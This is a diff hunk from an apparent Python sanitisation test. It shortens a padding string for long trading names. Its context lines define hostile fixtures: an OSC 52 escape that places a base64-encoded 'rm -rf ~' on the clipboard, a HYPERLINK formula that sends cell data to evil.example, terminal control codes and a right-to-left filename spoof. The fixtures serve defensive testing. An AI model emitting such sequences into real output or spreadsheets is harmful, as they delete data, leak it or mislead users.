@@ -45,7 +45,7 @@ OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # OSC 52: put "rm -rf ~" on the clipboard
 HOSTILE = f'=HYPERLINK("http://evil.example/?"&A1,"click"){OSC52}\x1b[2J\x07\x00\x9b6n \u202eexe.txt Ltd'
 #: the characters a terminal would act on; none may reach stdout raw
 RAW = ("\x1b", "\x07", "\x00", "\x9b", "\u202e")
-TAIL = " and a very long trading name" * 12  # ~350 characters: elided unless --wide
+TAIL = " and a very long trading name" * 5  # 145 characters: elided unless --wide (Stripe caps a name at 256)
 WIDTH = 100
 
 
